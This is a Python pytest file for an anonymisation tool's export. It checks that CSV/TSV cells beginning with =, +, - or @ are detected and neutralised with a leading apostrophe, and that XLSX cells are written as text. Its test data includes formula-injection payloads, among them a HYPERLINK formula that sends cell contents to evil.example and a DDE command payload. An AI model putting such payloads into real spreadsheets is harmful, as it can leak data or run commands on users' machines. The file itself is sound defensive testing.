"""Formula injection (issue 22, class 6): cells such as ``=HYPERLINK(…)``, ``+cmd``, ``-2+3``,
``@SUM(…)`` were exported unchanged.  CSV/TSV output prefixes them with ``'`` (OWASP), says so
in result.json and the report, and ``--keep-formulas`` keeps the bytes; XLSX cells are text,
never formulas; the independent re-check applies the same rule."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from eucaim_wizard.cli import app
from eucaim_wizard.errors import TableError
from eucaim_wizard.tables import Table
from eucaim_wizard.tables.formulas import is_formula, neutralise_formulas, release_formulas, restore_formulas

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_payloads_are_recognised(value):
    assert is_formula(value)


@pytest.mark.parametrize("value", ["-2.5", "+3", "1e-5", "-2,5", "-", "+", "", "abc", "a=b", "'=x", "2023-05-01",
                                   "<20", "[20-30["])
def test_numbers_and_plain_text_are_not_formulas(value):
    assert not is_formula(value)


def test_neutralising_prefixes_and_counts_cells():
    table = Table.from_columns({"a": ["=1+1", "x", "=1+1", "-3"], "b": ["1", "2", "@A1", "y"]})
    neutral, changed = neutralise_formulas(table)
    assert neutral.column("a").tolist() == ["'=1+1", "x", "'=1+1", "-3"]
    assert neutral.column("b").tolist() == ["1", "2", "'@A1", "y"]
    assert changed == {"a": 2, "b": 1}
    assert restore_formulas(neutral).column("a").tolist() == table.column("a").tolist()


def test_a_value_already_in_the_prefixed_form_is_refused():
    table = Table.from_columns({"note": ["'=1+1", "x"]})
    with pytest.raises(TableError, match=r"Column 'note' of data\.csv .*--keep-formulas"):
        neutralise_formulas(table, "data.csv")
    kept, summary = release_formulas(table, keep=True)  # (kept: written as it is)
    assert kept is table and summary == {"cells": {}, "neutralised": False, "kept": True}


cells = st.one_of(st.sampled_from(PAYLOADS + ["-1", "x", "", "-", "@"]), st.text(max_size=6))


@settings(max_examples=80, deadline=None)
@given(st.lists(st.tuples(cells, cells), min_size=1, max_size=12))
def test_neutralised_tables_hold_no_formula_and_restore_exactly(rows):
    table = Table.from_columns({"a": [r[0] for r in rows], "b": [r[1] for r in rows]})
    try:
        neutral, changed = neutralise_formulas(table)
    except TableError:  # a value already in the prefixed form: refused, never guessed
        assert any(v.startswith("'") and is_formula(v[1:]) for r in rows for v in r)
        return
    for name in ("a", "b"):
        assert not any(is_formula(v) for v in neutral.column(name).tolist())
        assert restore_formulas(neutral).column(name).tolist() == table.column(name).tolist()
        assert changed.get(name, 0) == sum(is_formula(v) for v in table.column(name).tolist())


# --- the commands that release a table ------------------------------------------------------
def _project(folder: Path, suffix: str = ".csv") -> Path:
    rows = [["sex", "age", "note", "diagnosis"]] + [
        ["FM"[i % 2], str(30 + i % 40), PAYLOADS[i % len(PAYLOADS)] if i % 3 == 0 else f"n{i % 4}", "-2+3" if i % 5 == 0
         else "A"] for i in range(200)]
    if suffix == ".xlsx":
        from eucaim_wizard.tables import TableFormat, write_table

        write_table(Table.from_columns({h: [r[j] for r in rows[1:]] for j, h in enumerate(rows[0])}),
                    folder / "data.xlsx", TableFormat("xlsx"))
    else:
        import csv

        with (folder / "data.csv").open("w", newline="") as stream:
            csv.writer(stream).writerows(rows)
    (folder / "project.yaml").write_text(
        f"data: data{suffix}\nattributes:\n  sex: {{role: quasi-identifier, hierarchy: 'preset:sex'}}\n"
        "  age: {role: quasi-identifier, hierarchy: 'preset:age'}\n  note: {role: insensitive}\n"
        "  diagnosis: {role: sensitive}\nprivacy:\n  - k-anonymity: {k: 5}\nsuppression_limit: 0.05\n")
    return folder / "project.yaml"


def _released(tmp_path: Path, command: str, *extra: str, suffix: str = ".csv") -> Path:
    project = _project(tmp_path, suffix)
    out = tmp_path / "out"
    if command == "apply":
        first = CliRunner().invoke(app, ["anonymize", str(project), "-o", str(tmp_path / "first"), *extra])
        assert first.exit_code == 0, first.output
        args = ["apply", str(tmp_path / "first" / "result.json"), str(tmp_path / f"data{suffix}"), "-o", str(out)]
    elif command == "run":
        args = ["run", str(project), "-o", str(out), "--no-classification"]
    else:
        args = ["anonymize", str(project), "-o", str(out)]
    result = CliRunner().invoke(app, [*args, *extra], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    return out


def _csv_cells(path: Path) -> list[str]:
    import csv

    with path.open(newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


@pytest.mark.parametrize("command", ["anonymize", "run", "apply"])
def test_csv_output_neutralises_formulas_and_says_so(tmp_path, command):
    out = _released(tmp_path, command)
    cells = _csv_cells(out / "anonymized.csv")
    assert not any(is_formula(c) for c in cells)
    assert "'" + PAYLOADS[0] in cells and "'-2+3" in cells
    summary = json.loads((out / ("apply.json" if command == "apply" else "result.json")).read_text())
    assert summary["formulas"]["neutralised"] is True
    assert summary["formulas"]["cells"]["note"] > 0 and summary["formulas"]["cells"]["diagnosis"] == 40
    if command == "run":
        report = json.loads((out / "report.json").read_text())
        assert report["input"]["formulas"]["cells"] == summary["formulas"]["cells"]


@pytest.mark.parametrize("command", ["anonymize", "apply"])
def test_keep_formulas_keeps_the_bytes(tmp_path, command):
    out = _released(tmp_path, command, "--keep-formulas")
    cells = _csv_cells(out / "anonymized.csv")
    assert PAYLOADS[0] in cells and "-2+3" in cells and "'-2+3" not in cells
    summary = json.loads((out / ("apply.json" if command == "apply" else "result.json")).read_text())
    assert summary["formulas"]["neutralised"] is False and summary["formulas"]["kept"] is True


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    out = _released(tmp_path, "anonymize", suffix=".xlsx")
    with zipfile.ZipFile(out / "anonymized.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element
    from eucaim_wizard.tables import read_table

    written = read_table(out / "anonymized.xlsx")
    assert PAYLOADS[0] in written.column("note").tolist()  # the text itself, no prefix needed


def test_the_run_report_pdf_mentions_the_prefixed_cells(tmp_path):
    pytest.importorskip("pypdf")
    from pypdf import PdfReader

    out = _released(tmp_path, "run")
    text = " ".join(page.extract_text() for page in PdfReader(out / "report.pdf").pages)
    assert "leading '" in " ".join(text.split()) and "--keep-formulas" in text


def test_the_xlsx_copy_of_run_holds_the_cells_as_text_without_the_prefix(tmp_path):
    out = _released(tmp_path, "run", "--xlsx")
    with zipfile.ZipFile(out / "anonymized.xlsx") as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    from eucaim_wizard.tables import read_table

    notes = read_table(out / "anonymized.xlsx").column("note").tolist()
    assert PAYLOADS[0] in notes and "'" + PAYLOADS[0] not in notes
